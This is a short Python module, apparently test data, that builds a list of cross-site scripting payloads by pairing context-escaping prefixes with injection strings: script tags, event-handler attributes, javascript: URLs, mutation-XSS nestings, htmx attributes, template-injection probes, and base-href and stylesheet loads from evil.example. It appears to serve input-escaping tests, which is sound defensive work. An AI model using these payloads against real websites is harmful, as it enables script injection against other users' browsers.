"""What somebody types into a field in the hope that another one's browser runs it (trust.md B17)."""

_WAYS_OUT = (
    "",
    '"',
    "'",
    "`",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "-->",
    "]]>",
    "\\",
    "&quot;>",
)
"""How a text might leave the place where it was put."""
_RUNS = (
    "<script>alert(1)</script>",
    "<ScRiPt/x>alert`1`</sCrIpT >",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>',
    '<a href="java&#9;script:alert(1)" autofocus onfocus=alert(1) tabindex=1>x</a>',
    "<details open ontoggle=alert(1)>",
    " onmouseover=alert(1) autofocus onfocus=alert(1) x=",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<form><button formaction="javascript:alert(1)">x</button></form><base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(1)</script>">',
    '<link rel=stylesheet href="https://evil.example/x.css"><style>@import "https://evil.example/y.css";</style>',
    '<div hx-get="/livez" hx-trigger="load" hx-on::load="alert(1)" data-hx-vals="js:{a:alert(1)}">',
    ";alert(1)//${alert(1)}{{7*7}}{% raw %}{{ ''.__class__.__mro__ }}#{7*7}<%= 7*7 %>",
)
"""What it would do then."""
PAYLOADS = tuple(out + run for out in _WAYS_OUT for run in _RUNS)
